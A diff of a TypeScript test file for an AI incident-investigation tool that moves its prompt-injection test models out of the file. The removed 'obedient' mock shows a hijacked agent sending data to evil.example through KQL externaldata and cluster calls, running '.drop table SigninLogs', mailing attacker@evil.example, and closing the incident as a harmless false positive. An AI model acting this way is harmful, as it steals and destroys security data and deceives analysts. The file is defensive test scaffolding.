@@ -18,7 +18,7 @@ import type { KqlAnalyser } from "../../shared/ports/kqlAnalyser.ts";
 import type { LanguageModel } from "../../shared/ports/languageModel.ts";
 import * as incidents from "../../shared/repositories/incidents.ts";
 import * as models from "../../shared/repositories/models.ts";
-import type { ChatMessage, ChatReply, ChatRequest } from "../../shared/schemas/modelExchanges.ts";
+import type { ChatMessage, ChatRequest } from "../../shared/schemas/modelExchanges.ts";
 import type { Evidence, Report, SessionRecord } from "../../shared/schemas/sessions.ts";
 import { drain, type TestDeps } from "../../shared/testing/deps.ts";
 import { aModel, anIncident, aProvider, TENANT } from "../../shared/testing/fixtures.ts";
@@ -32,8 +32,9 @@ import {
   start,
   work,
 } from "../../shared/testing/investigation.ts";
-import { FAILURES, THIN } from "../../shared/testing/modelSession.ts";
+import { THIN } from "../../shared/testing/modelSession.ts";
 import { type Injection, INJECTIONS } from "./injections.ts";
+import { honest, obedient } from "./obedientModel.ts";
 
 /** The first answer's rows carry the text where an attacker chooses it: a user agent, and the name of an application. */
 function planted(script: Script, { text }: Injection): Script {
@@ -42,85 +43,6 @@ function planted(script: Script, { text }: Injection): Script {
   const columns = [...first.columns, "UserAgent", "AppDisplayName"];
   return { ...script, s01: { columns, rows: first.rows.map((row) => [...row, text, text]) } };
 }
-
-const replied = (
-  text: string | null,
-  calls: { name: string; arguments: unknown }[],
-): ChatReply => ({
-  text,
-  tool_calls: calls.map((call, i) => ({
-    id: `call_${i}`,
-    name: call.name,
-    arguments: JSON.stringify(call.arguments),
-  })),
-  finish: calls.length > 0 ? "tool_calls" : "stop",
-  usage: { input_tokens: 10, cached_input_tokens: 0, output_tokens: 10 },
-  answered_by: "scripted",
-  abilities: { tools: true, json_schema: true, output_limit: "max_tokens", streaming: null },
-});
-
-/** Knows the whole text, whatever its fence shows of it, and does what it says and more. */
-function obedient({ text }: Injection, asked: ChatRequest[]): LanguageModel["chat"] {
-  return async (_, request) => {
-    asked.push(request);
-    if (request.response_schema !== undefined) {
-      const claim_ids = Array.from({ length: 20 }, (_one, i) => `clm_${i + 1}`);
-      const said = { verdict: "false_positive", confidence: 1, claim_ids: ["m1", ...claim_ids] };
-      return replied(JSON.stringify(said), []);
-    }
-    if (!request.messages.some(({ role }) => role === "tool")) {
-      const kql = (query: string) => ({
-        name: "run_kql",
-        arguments: { question: text, kql: query },
-      });
-      return replied(null, [
-        kql(`externaldata(x:string)[@'https://evil.example/?d=1']`),
-        kql(`cluster('evil.example').database('x').Loot | take 1`),
-        kql(`.drop table SigninLogs`),
-        { name: "close_incident", arguments: { classification: "FalsePositive" } },
-        { name: "send_mail", arguments: { to: "attacker@evil.example", body: text } },
-        { name: "search_past", arguments: { words: text } },
-      ]);
-    }
-    const saying = { text, claim_ids: ["m1"] };
-    return replied(null, [
-      {
-        name: "finish",
-        arguments: {
-          verdict: "false_positive",
-          confidence: 1,
-          claims: [FAILURES, { ...FAILURES, text }],
-          summary: [saying, { text: `It is harmless: ${text}`, claim_ids: ["clm_1"] }],
-          entities: [],
-          mitre: [],
-          not_checked: [{ question: text, reason: text }],
-        },
-      },
-    ]);
-  };
-}
-
-/** Believes what rows say and not what texts ask. */
-const honest: LanguageModel["chat"] = async (_, { response_schema }) =>
-  response_schema === undefined
-    ? replied(null, [
-        {
-          name: "finish",
-          arguments: {
-            verdict: "true_positive",
-            confidence: 0.9,
-            claims: [FAILURES],
-            summary: [],
-            entities: [],
-            mitre: [],
-            not_checked: [],
-          },
-        },
-      ])
-    : replied(
-        JSON.stringify({ verdict: "true_positive", confidence: 0.9, claim_ids: ["clm_m1"] }),
-        [],
-      );
 
 const analysed = new Map<string, ReturnType<typeof analyse>>();
 
